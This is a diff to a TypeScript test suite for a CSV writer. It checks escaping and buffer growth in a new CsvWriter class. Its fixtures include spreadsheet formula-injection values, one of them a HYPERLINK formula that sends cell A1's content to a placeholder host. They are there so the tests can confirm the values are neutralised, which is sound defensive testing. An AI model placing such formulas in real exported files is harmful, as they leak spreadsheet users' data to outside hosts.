@@ -1,5 +1,5 @@
 import { describe, it, expect } from 'vitest';
-import { csvField, csvHeader, csvLine } from './csv';
+import { CsvWriter, csvField, csvHeader, csvLine } from './csv';
 
 describe('csvField', () => {
   it.each([
@@ -59,5 +59,53 @@ describe('csvLine', () => {
 
   it('neutralises a column name a spreadsheet would run', () => {
     expect(csvHeader(['jid', '=cmd'])).toBe(`jid,"'=cmd"\r\n`);
+  });
+});
+
+describe('CsvWriter', () => {
+  const awkward: unknown[] = [
+    'plain',
+    '',
+    'a,b',
+    'say "hi"',
+    '"',
+    '""',
+    'ends with "',
+    'two\nlines',
+    'cr\rhere',
+    '=HYPERLINK("http://x.example/?"&A1,"open")',
+    '+1',
+    '-',
+    '@x',
+    '\t=1',
+    'é ✓ 😀 "q"',
+    42,
+    -5,
+    false,
+    null,
+    undefined,
+    { nested: ['a', 1] },
+    ['x,y'],
+  ];
+
+  it('writes the same bytes as csvLine, for every kind of field', () => {
+    const columns = ['a', 'b'];
+    const rows = awkward.flatMap((a) => awkward.map((b) => ({ a, b })));
+    // A small buffer, so that it grows while records are written.
+    const sut = new CsvWriter(16);
+    for (const row of rows) {
+      sut.record(columns, row);
+    }
+    expect(sut.take().toString('utf8')).toBe(rows.map((row) => csvLine(columns, row)).join(''));
+  });
+
+  it('gives what was written since the last take, and a field larger than its buffer', () => {
+    const sut = new CsvWriter(8);
+    sut.record(['a'], { a: 'x' });
+    expect(sut.take().toString()).toBe('x\r\n');
+    const large = `<q a="${'é'.repeat(5000)}"/>`;
+    sut.record(['a', 'b'], { a: large, b: 1 });
+    expect(sut.take().toString()).toBe(csvLine(['a', 'b'], { a: large, b: 1 }));
+    expect(sut.take().length).toBe(0);
   });
 });
